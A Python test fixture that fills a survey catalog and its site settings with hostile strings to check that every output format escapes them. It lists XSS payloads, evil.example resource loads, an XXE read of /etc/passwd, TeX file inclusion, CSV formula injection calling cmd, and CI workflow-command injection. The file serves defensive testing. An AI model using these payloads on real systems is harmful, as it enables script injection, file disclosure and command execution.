"""Texts of strangers that every output must show as text, exactly, and a catalog full of them.

Each payload that could run sets `window.pwned` to its own number, so an execution says which one it was.
"""

import contextlib
import datetime
import shutil
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import yaml

from vlm_survey import (
    Catalog,
    DatasetRole,
    Identifiers,
    InvalidValueError,
    Links,
    PersonName,
    Record,
    Slug,
    Status,
    Taxonomy,
    Url,
)
from vlm_survey.layout import record_text
from vlm_survey.model.folding import fold
from vlm_survey.model.gap import Gap
from vlm_survey.model.identifiers import ArxivId, Doi
from vlm_survey.model.record import SurveyEntry
from vlm_survey.model.retired import Tombstone
from vlm_survey.model.taxonomy import Access, VenueType

_PATTERNS: Mapping[str, tuple[str, ...]] = {
    "HTML text": (
        "<script>window.pwned = #</script>",
        '<img src=x onerror="window.pwned = #">',
        "<svg onload='window.pwned = #'>",
        "<iframe srcdoc='<script>parent.pwned = #</script>'>",
        "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/a.css>",
        "<!-- never closed",
        "--> <![CDATA[ ]]> <?php pwned ?>",
        "<!-- catalog: browse --> and <!-- record: clip -->",
        "</div></div></main></body>",
        "</textarea></select></option></noscript><script>window.pwned = #</script>",
        "<template><form action=//evil.example><button>go",
        "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
        "&lt;b&gt; &amp; &copy; &#60;",
        "<x", "a < b > c",
    ),
    "HTML attribute": (
        '</title><script>window.pwned = #</script> and "/><script>window.pwned = #</script>',
        "' onfocus='window.pwned = #' autofocus='",
        '" onmouseover="window.pwned = #" autofocus onfocus="window.pwned = #" x="',
        "` onload=`window.pwned = #` =",
        "x onerror=window.pwned=# style=position:fixed",
        "javascript:window.pwned=#",
        "data:text/html,<script>parent.pwned = #</script>",
    ),
    "JSON in script": (
        "</script><script>window.pwned = #</script>",
        '"}];window.pwned = #;//',
        "\\u003cscript\\u003ewindow.pwned = #\\u003c/script\\u003e",
        "<!--<script>window.pwned = #",
        "__proto__ constructor toString",
        "${window.pwned = #} `${window.pwned = #}`",
    ),
    "Markdown": (
        "[x](javascript:window.pwned=#)",
        'Nice title {: onmouseover="window.pwned = #" }',
        "*em*{: onclick style=position:fixed } **bold** __under__ _low_ ~~gone~~",
        '--8<-- "mkdocs.yml"',
        "[CLIP]: https://evil.example/",
        "![](http://evil.example/pixel.gif) :smile: https://evil.example www.evil.example me@evil.example",
        "[TOC] [^1] [ ] [x]",
        "1986. A great year", "1) first", "- item + item * item # heading", "+ plus", "* star",
        "# heading #", "> quoted", "===", "--- x", "~~~ x", "```js x```",
        "{{ 7*7 }} {% raw %} ${7*7}",
        "$\\alpha$ costs $5, C:\\new\\table",
        "@octocat #1 GH-1 a/b#2 https://github.com/a/b/issues/1",
        "catalogslottitle catalogslotbody catalogslotdescription catalogslothead catalogslotfolder/",
        "ftp://evil.example xmpp:me@evil.example mailto:me@evil.example",
    ),
    "GFM table": (
        "a | b `c | d` e \\| f", "| --- | --- |", "ends with a backslash \\", "ends with a bar |",
    ),
    "URL": ("//evil.example/x", "../../../x?y=1&z=2#w", "%3Cscript%3Ewindow.pwned=#%3C/script%3E", "?q=<b>&sort=x"),
    "XML": ("]]> &x; <!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "<?xml version='1.1'?> \U0001f600 \ufffd"),
    "TeX": (
        "100% #1 $x_1$ & ~ ^2 \\input{/etc/passwd}", "Un{balanced", "Un}balanced", "@article{x, title={y}}",
        '"quoted" # "joined"', "{\\\"u} \\'e and \\ss", "A and B and others", "--- -- ``x''",
    ),
    "RIS": ("ER  - ", "TY  - JOUR AU  - Evil"),
    "CSV": (
        "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)",
        "\uff1d1+1", "'=1+1", "a;=1+1", 'say "x", then; y',
    ),
    "terminal": (
        "%1b[31m \\e[31m \\x1b]0;title\\x07", "\u00a0 no-break \u2011 hyphen", "نموذج اللغة للصور الطبية",
        "深度学习与医学图像 \U0001f600 é ß ŉ", "\U0001f469\u200d\u2695\ufe0f İstanbul ıI", "Unbroken" * 50,
    ),
    "workflow command": (
        "::error file=x::pwned", "::add-mask::a", "##[error]pwned", "x ##[add-mask]a ##vso[x]y", "::stop-commands::x",
    ),
}  # fmt: skip
"""Language of an output -> what could be taken for its signs. `#` in `pwned = #` is the number."""

PAYLOADS: tuple[tuple[str, str], ...] = tuple(
    (language, text.replace("pwned = #", f"pwned = {number}").replace("pwned=#", f"pwned={number}"))
    for number, (language, text) in enumerate(
        ((language, text.strip()) for language, texts in _PATTERNS.items() for text in texts), 1
    )
)
"""Language and text of each payload; its number is its place, from 1."""

TITLES = [text for _, text in PAYLOADS]

COUNT = 200
"""Records of the catalog; more than payloads, so that each field meets each of them."""

_ADDRESSES = (
    "https://example.org/a(b)[c]*d_e!'$&;=,{0}",
    "https://example.org/code?a=1&b=%22{0}#x",
    "https://example.org/?a=1&copy;=2&lt;b&gt;#&#39;={0}",
    "https://example.org/'onmouseover='window.pwned=1'/{0}",
    "https://example.org/__proto__/%3Cscript%3E/~x$(id)/@me:{0}",
    "https://example.org/a?[x](javascript:1)=*y*_z_!{0}",
)

Texts = Callable[[str, int], str]
"""What a field of the thing of that number says, by the field's name."""


def hostile_text(field: str, number: int) -> str:
    """A payload: another for each field of a thing, and over all things all of them."""
    offset = 0 if field == "title" else zlib.crc32(field.encode())
    return TITLES[(number + offset) % len(TITLES)]


def plain_text(field: str, number: int) -> str:
    """What would stand there if nobody meant any harm."""
    return f"Plain {field} of number {number}"


def hostile_catalog(count: int = COUNT, text: Texts = hostile_text) -> Catalog:
    """A catalog in which every text is what `text` says; the first records have a payload each as title."""
    records = (_record(number, text) for number in range(count))
    return Catalog(
        _taxonomy(text),
        tuple(sorted(records, key=lambda record: record.id)),
        gaps=tuple(_gaps(text)),
        retired={
            Slug(f"gone-{number}"): Tombstone(
                day=datetime.date(2026, 11, 24),
                why=text("why", number),
                now=Slug(f"hostile-{number}") if number % 2 else None,
            )
            for number in range(min(count, len(TITLES)))
        },
        spellings={_group(text, 0): (_group(text, 1),)},
    )


def _group(text: Texts, number: int) -> PersonName:
    return _names(text("author", number), text("group", number))[0]


def _unique(text: str, number: int) -> str:
    """The text, made another's by a number before or behind it after the first round."""
    folded = fold(text)
    if number < len(TITLES) and folded and folded not in map(fold, TITLES[:number]):
        return text
    return f"{text} n{number}" if number % 2 else f"n{number} {text}"


def _record(number: int, text: Texts) -> Record:
    def link(position: int) -> Url:
        address = _ADDRESSES[(number + position) % len(_ADDRESSES)]
        return Url.parse(address.format(f"{number}-{position}"))

    year = 2015 + number % 10
    terms = [{"task": number % len(TITLES), "way": number % 6, "data": number % 3}, {"task": (number + 1) % len(TITLES)}]  # fmt: skip
    tags = {
        facet: {
            Slug(f"{facet}-{of[facet]}"): text(f"evidence {facet} {place}", number)
            for place, of in enumerate(terms)
            if facet in of
        }
        for facet in ("task", "way", "data")
    }
    doi = f'10.1000/x_{number}%(a){{b}}"<script>window.pwned={number}</script>\\&;'
    return Record(
        id=Slug(f"hostile-{number}"),
        title=_unique(text("title", number), number),
        name=text("name", number),
        authors=tuple(_names(text("author", number), text("group", number))),
        year=year,
        venue=Slug(f"venue-{number % len(TITLES)}"),
        kind=Slug(f"kind-{number % 4}"),
        domain=Slug(f"domain-{number % 3}"),
        identifiers=Identifiers(
            doi=Doi.parse(doi) if number % 3 == 0 else None,
            arxiv=ArxivId.parse(f"{year % 100}01.{number:05}") if number % 4 == 0 else None,
        ),
        # Every seventh has no address at all: then its title stands bare in lists.
        links=Links()
        if number % 7 == 1
        else Links(**{name: link(place) for place, name in enumerate(Links.model_fields)}),
        summary=text("summary", number),
        tags=tags,
        builds_on=(Slug(f"hostile-{number // 3}"),) if number > 2 else (),
        datasets={
            Slug(f"dataset-{(number + step) % len(TITLES)}"): role
            for step, role in enumerate([*DatasetRole][: number % 4])
        },
        # Printed numbers repeat.
        survey=tuple(
            SurveyEntry(
                section=text("section", number),
                number=number + 1,
                **{
                    field: text(f"{printed} {field}", number)
                    for field in ("name", "title", "domain", "task", "link")
                },
            )
            for printed in ("printed", "reprinted")[: 1 + (number % 5 == 0)]
        ),
        status=Status.IMPORTED if number % 2 or number % 7 == 1 else Status.CURATED,
        sources=(link(7), link(8)),
        note=text("note", number),
        added=datetime.date(2026, 11, 24),
    )


def _names(*texts: str) -> list[PersonName]:
    """Each text as the name of a person where it can be one, and as that of a group."""
    person, group = texts
    bare = group.replace("{", "(").replace("}", ")")[:150]
    names = [PersonName.parse("{" + bare + "}")]
    is_plain = not any(sign in person for sign in "{},") and len(person) < 150
    with contextlib.suppress(InvalidValueError):
        return [*names, PersonName.parse(person if is_plain else "Ada Lovelace")]
    return [*names, PersonName.parse("Ada Lovelace")]


def _taxonomy(text: Texts) -> Taxonomy:
    def term(sort: str, number: int) -> dict[str, Any]:
        entry = {field: text(f"{sort} {field}", number) for field in ("definition", "rule", "look_alike")}  # fmt: skip
        return {
            # Of a facet, no two names may be one word.
            "name": f"{text(f'{sort} name', number)} {sort} {number}",
            "aliases": [f"{text(f'{sort} alias', number)} or {sort} {number}"],
            "sources": [{"label": text(f"{sort} source", number), "url": f"https://example.org/?a=1&b={number}"}],
            "formerly": [f"old-{sort}-{number}"] if number < 2 else [],
            **entry,
        }  # fmt: skip

    def terms(sort: str, count: int) -> dict[str, Any]:
        return {f"{sort}-{number}": term(sort, number) for number in range(count)}

    counts = {"task": len(TITLES), "way": 6, "data": 3}
    return Taxonomy.model_validate(
        {
            "survey": {
                "title": text("survey title", 0),
                "authors": _names(text("author", 3), text("group", 3)),
                "year": "2025",
                "url": "https://example.org/survey?a=1&copy;=2",
                "list": "https://example.org/list(1)",
                "sections": {
                    text("section", number): f"task-{number % 5}" for number in range(len(TITLES))
                },
            },
            "group_by": "task",
            "kinds": terms("kind", 4),
            "domains": terms("domain", 3),
            "facets": {
                facet: {
                    "name": text("facet name", number),
                    "definition": text("facet definition", number),
                    "terms": terms(facet, count),
                }
                for number, (facet, count) in enumerate(counts.items())
            },
            "datasets": {
                f"dataset-{number}": {
                    "name": f"{text('dataset name', number)} {number}",
                    "aliases": [f"{text('dataset alias', number)} or {number}"],
                    "tags": {"data": [f"data-{number % 3}"]} if number % 2 else {},
                    "url": _ADDRESSES[number % len(_ADDRESSES)].format(f"set-{number}"),
                    "access": [*Access][number % len(Access)].value,
                    "licence": text("dataset licence", number),
                    "formerly": [f"old-dataset-{number}"] if number < 2 else [],
                }
                for number in range(len(TITLES))
            },
            "venues": {
                f"venue-{number}": {
                    "short": text("venue short", number),
                    "name": text("venue name", number),
                    "type": [*VenueType][number % len(VenueType)].value,
                }
                for number in range(len(TITLES))
            },
        }
    )


def _gaps(text: Texts) -> list[Gap]:
    """Of the ways and sorts of data, those that meet in no record."""
    cells = [(way, data) for way in range(6) for data in range(3) if data != way % 3]
    return [
        Gap.model_validate(
            {"cell": {"way": f"way-{way}", "data": f"data-{data}"}}
            | ({"meaningless": text("gap", n)} if n % 2 else {"searched": "2026-11-24", "where": text("gap", n), "candidates": [f"https://example.org/?gap={n}&lt;=1"]})
        )
        for n, (way, data) in enumerate(cells)
    ]  # fmt: skip


SETTINGS: dict[str, Any] = {
    "site_name": '</title><script>window.pwned = 901</script>"><img src=x onerror="window.pwned=902"> | *a* {{ 7*7 }} #',
    "site_description": "\"><script>window.pwned = 903</script> ' <!-- catalog: browse --> [x](javascript:1) ::error::x",
    "extra": {"release": '"><script>window.pwned = 904</script>', "repository": "", "short_name": "</title><script>window.pwned = 905</script>"},
}  # fmt: skip


def write_catalog(catalog: Catalog, root: Path, text: Texts = hostile_text) -> None:
    """The catalog as files in the folder `root`, with settings, pages and a release of the same sort."""
    from tests.conftest import REPOSITORY

    def write(name: str, data: object) -> None:
        written = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1000)
        (root / name).write_text(written, encoding="utf-8")

    (root / "papers").mkdir(parents=True)
    for record in catalog:
        (root / "papers" / f"{record.id}.yaml").write_text(record_text(record), encoding="utf-8")
    write("taxonomy.yaml", catalog.taxonomy.model_dump(mode="json", exclude_none=True))
    write("gaps.yaml", {"gaps": [g.model_dump(mode="json", exclude_none=True) for g in catalog.gaps]})  # fmt: skip
    stones = {str(i): stone.model_dump(mode="json", exclude_none=True) for i, stone in catalog.retired.items()}  # fmt: skip
    write("retired.yaml", {"retired": stones})
    spellings = {str(name): [*map(str, others)] for name, others in catalog.spellings.items()}
    write("authors.yaml", {"authors": spellings})
    (root / "releases").mkdir()
    write("releases/1.yaml", _release(text))
    shutil.copytree(REPOSITORY / "docs", root / "docs")
    # Its page links to records of the catalog that it is about.
    (root / "docs" / "about.md").write_text("# About\n\nSee <!-- record: hostile-0 -->.\n", "utf-8")
    config = yaml.safe_load((REPOSITORY / "mkdocs.yml").read_text(encoding="utf-8"))
    given = SETTINGS if text is hostile_text else {"site_name": "A plain name", "site_description": "Plain.", "extra": {}}  # fmt: skip
    config |= {**given, "extra": config["extra"] | given["extra"]}
    write("mkdocs.yml", config)
    (root / "templates").symlink_to(REPOSITORY / "templates")


def _release(text: Texts) -> dict[str, Any]:
    """A release in which each payload was written, changed and retired."""
    numbers = range(len(TITLES))
    return {
        "release": text("release", 0),
        "date": "2026-11-24",
        "added": [f"hostile-{number}" for number in numbers],
        "changed": [
            {
                "id": f"hostile-{number}",
                "fields": {f"{text('changed field', number)} {number}": {"before": text("before", number), "after": text("after", number)}},
                "tags": {"way": {"added": [f"way-{number % 6}"]}},
            }
            for number in numbers
        ],
        "retired": [{"id": f"lost-{number}", "title": text("lost title", number)} for number in numbers],
    }  # fmt: skip
